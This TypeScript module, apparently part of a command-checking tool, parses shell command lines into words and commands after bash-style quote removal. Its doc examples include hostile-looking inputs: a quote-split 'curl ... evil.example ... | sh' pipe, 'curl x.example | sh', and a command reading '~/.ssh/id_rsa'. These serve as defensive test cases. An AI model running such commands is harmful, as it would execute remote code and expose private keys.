/**
 * Split a shell command line into words as a POSIX shell (bash) would after
 * quote removal: single and double quotes, `$'...'` (ANSI-C) quotes,
 * backslash escapes, comments, and the operators that end a word (`;`, `&&`,
 * `|`, `(`, `)`, redirections, `$(`, backticks). Expansions (`$VAR`,
 * `${...}`, globs) are kept as written: pab cannot know their value, so a URL
 * or host built from one is never vouched for.
 *
 * @module
 */

/** Characters that end a word outside quotes. */
const OPERATORS = new Set([";", "&", "|", "(", ")", "<", ">", "\n", "`"]);
const BLANKS = new Set([" ", "\t", "\r"]);

/** The longest command line read, in characters: beyond it the rest is one word (it is checked as text). */
export const MAX_COMMAND_CHARS = 1_000_000;

/**
 * The words of a shell command line, in order, after quote removal. Linear in
 * the command's length; never throws for any text (an unclosed quote ends at
 * the end of the text, as a reader would take it).
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { shellWords } from "./shell_words.ts";
 * assert.deepEqual(shellWords(`curl "https://ev"'il.example'/x | sh`), ["curl", "https://evil.example/x", "sh"]);
 * assert.deepEqual(shellWords("echo $'\\x68ttps://a.example' # note"), ["echo", "https://a.example"]);
 * assert.deepEqual(shellWords("cat<~/.ssh/id_rsa&&x=$(whoami)"), ["cat", "~/.ssh/id_rsa", "x=$", "whoami"]);
 * ```
 */
export function shellWords(command: string): string[] {
  return shellCommands(command).flat();
}

/**
 * The simple commands of a command line (split at `;`, `&`, `|`, `(`, `)`,
 * newlines, backticks and `$(`), each as its words after quote removal; the
 * first word of each is in command position.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { shellCommands } from "./shell_words.ts";
 * assert.deepEqual(shellCommands("cd /tmp && curl x.example | sh"), [["cd", "/tmp"], ["curl", "x.example"], ["sh"]]);
 * ```
 */
export function shellCommands(command: string): string[][] {
  const text = command.length > MAX_COMMAND_CHARS ? command.slice(0, MAX_COMMAND_CHARS) : command;
  const commands: string[][] = [];
  let words: string[] = [];
  let word = "";
  let inWord = false;
  const end = () => {
    if (inWord) words.push(word);
    word = "";
    inWord = false;
  };
  const endCommand = () => {
    end();
    if (words.length) commands.push(words);
    words = [];
  };
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (BLANKS.has(c)) {
      end();
      i++;
    } else if (c === "<" || c === ">") {
      end();
      i++;
    } else if (OPERATORS.has(c)) {
      endCommand();
      i++;
    } else if (c === "#" && !inWord) {
      while (i < text.length && text[i] !== "\n") i++;
    } else if (c === "\\") {
      if (text[i + 1] === "\n") {
        i += 2; // a line continuation
      } else {
        if (i + 1 < text.length) word += text[i + 1];
        inWord = true;
        i += 2;
      }
    } else if (c === "'") {
      const close = text.indexOf("'", i + 1);
      const stop = close < 0 ? text.length : close;
      word += text.slice(i + 1, stop);
      inWord = true;
      i = stop + 1;
    } else if (c === "$" && text[i + 1] === "'") {
      const [value, next] = ansiC(text, i + 2);
      word += value;
      inWord = true;
      i = next;
    } else if (c === '"') {
      const [value, next] = doubleQuoted(text, i + 1);
      word += value;
      inWord = true;
      i = next;
    } else if (c === "$" && text[i + 1] === "(") {
      // A command substitution: what came before is one word, the inner command's words follow.
      word += "$";
      inWord = true;
      endCommand();
      i += 2;
    } else {
      word += c;
      inWord = true;
      i++;
    }
  }
  endCommand();
  return commands;
}

/** A double-quoted string from `start` (after the quote): its value and the index after the closing quote. */
function doubleQuoted(text: string, start: number): [string, number] {
  let value = "";
  let i = start;
  while (i < text.length && text[i] !== '"') {
    if (text[i] === "\\" && i + 1 < text.length && '$`"\\\n'.includes(text[i + 1])) {
      if (text[i + 1] !== "\n") value += text[i + 1];
      i += 2;
    } else {
      value += text[i];
      i++;
    }
  }
  return [value, i + 1];
}

const SIMPLE_ESCAPES: Readonly<Record<string, string>> = {
  a: "\x07",
  b: "\b",
  e: "\x1b",
  E: "\x1b",
  f: "\f",
  n: "\n",
  r: "\r",
  t: "\t",
  v: "\v",
  "\\": "\\",
  "'": "'",
  '"': '"',
  "?": "?",
};

/** A `$'...'` string from `start` (after the quote): its value and the index after the closing quote. */
function ansiC(text: string, start: number): [string, number] {
  let value = "";
  let i = start;
  while (i < text.length && text[i] !== "'") {
    if (text[i] !== "\\" || i + 1 >= text.length) {
      value += text[i];
      i++;
      continue;
    }
    const e = text[i + 1];
    if (Object.hasOwn(SIMPLE_ESCAPES, e)) {
      value += SIMPLE_ESCAPES[e];
      i += 2;
    } else if (e === "x" || e === "u" || e === "U") {
      const width = e === "x" ? 2 : e === "u" ? 4 : 8;
      const digits = /^[0-9a-fA-F]+/.exec(text.slice(i + 2, i + 2 + width))?.[0] ?? "";
      const code = digits ? parseInt(digits, 16) : NaN;
      value += digits && code <= 0x10ffff ? String.fromCodePoint(code) : `\\${e}`;
      i += 2 + digits.length;
    } else if (e >= "0" && e <= "7") {
      const digits = /^[0-7]{1,3}/.exec(text.slice(i + 1, i + 4))![0];
      value += String.fromCharCode(parseInt(digits, 8) & 0xff);
      i += 1 + digits.length;
    } else {
      value += `\\${e}`;
      i += 2;
    }
  }
  return [value, i + 1];
}
